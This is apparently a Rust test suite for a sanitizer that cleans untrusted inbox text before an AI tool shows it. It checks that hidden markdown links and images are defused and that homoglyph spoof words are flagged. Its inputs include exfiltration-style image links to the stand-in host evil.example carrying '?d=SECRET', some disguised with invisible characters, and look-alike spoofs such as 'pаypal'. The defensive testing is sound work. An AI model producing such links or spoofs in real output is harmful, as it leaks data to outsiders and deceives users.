//! What is taken out of a stranger's text, and what is broken in it.

use shared_inbox_mcp::render::{Fence, FencedBlock, SanitizeReport, clean};

use crate::fixture::assert_lacks;

fn cleaned(text: &str) -> (String, SanitizeReport) {
    let mut tally = SanitizeReport::default();
    (clean(text, &mut tally), tally)
}

#[test]
fn a_link_hidden_by_invisible_characters_is_defused_after_they_are_gone() {
    let (text, _) = cleaned("!\u{200b}[x]\u{2060}(ht\u{ad}tps:\u{200d}//evil.example)");
    assert_eq!(text, "! [x] (https:/ /evil.example)");
}

#[test]
fn no_form_of_link_survives() {
    for form in [
        "![a](https://e.example/x)",
        "![a](//e.example/x)",
        "[a](https://e.example)",
        "[a][b]\n\n[b]: https://e.example",
        "<https://e.example>",
        "<img src=//e.example/x>",
        "https://e.example",
        "https:\\\\e.example",
        "FTP://e.example",
        "//e.example/x",
        "www.e.example",
        "WWW.e.example",
        "www.(//e.example)",
        "éwww.e.example",
        "\u{323b0}www.e.example", // a letter only since Unicode 17
        "//\u{323b0}.example",
        "\u{323b0}mailto:e@e.example",
        "mailto:e@e.example?body=x",
    ] {
        let (text, tally) = cleaned(form);
        assert!(tally.links > 0, "{form}");
        assert_lacks(&text, &["![", "](", "][", "]:", "<h", "<i", "//", "\\\\", "www.", "WWW.", "mailto:e"]);
    }
}

#[test]
fn a_cut_does_not_put_a_link_together_again() {
    let mut out = String::new();
    Fence::with_marker("m").write(&mut out, FencedBlock::default().field("x", "mailto:e@e.example", 7));
    assert!(out.contains("(1 link or image mark defused)\n| x: mailto: … (12 more characters)\n"), "{out}");
}

#[test]
fn brackets_of_a_fence_do_not_become_those_of_a_link() {
    for (open, close) in [("⟦", "⟧"), ("〚", "〛"), ("⦗", "⦘"), ("⁅", "⁆"), ("⟬", "⟭"), ("〘", "〙")]
    {
        let (text, tally) =
            cleaned(&format!("!{open}x{close}(//evil.example/p.png?d=SECRET) {open}r{close}: x"));
        assert_eq!(text, "! [x] (/ /evil.example/p.png?d=SECRET) [r] : x");
        assert_eq!((tally.fences, tally.links), (4, 4));
    }
}

#[test]
fn plain_text_stays_as_it_is() {
    let text = "Dear team,\n\tthe sum is 3 < 4, see [1] (page 2): 10:30! Grüße, Łukasz, 北京, Привет";
    assert_eq!(cleaned(text), (text.to_owned(), SanitizeReport::default()));
}

#[test]
fn words_that_mix_look_alike_letters_are_counted_and_words_as_people_write_them_are_not() {
    for (word, count) in [
        ("p\u{430}ypal", 1),  // Cyrillic
        ("h\u{3bf}tel", 1),   // Greek
        ("h\u{585}tel", 1),   // Armenian
        ("\u{13a0}bc", 1),    // Cherokee
        ("\u{ff21}pple", 1),  // full width
        ("\u{1d400}pple", 1), // mathematical
        ("Привет", 0),
        ("Tシャツ", 0),
        ("iPhoneที่", 0),
        ("10µm", 0),
        ("Straße", 0),
        ("e\u{301}tat", 0),
    ] {
        assert_eq!(cleaned(word).1.lookalikes, count, "{word}");
    }
}

#[test]
fn line_ends_of_all_kinds_become_one() {
    assert_eq!(cleaned("a\r\nb\rc\u{2028}d\u{85}e").0, "a\nb\nc\nd\ne");
}
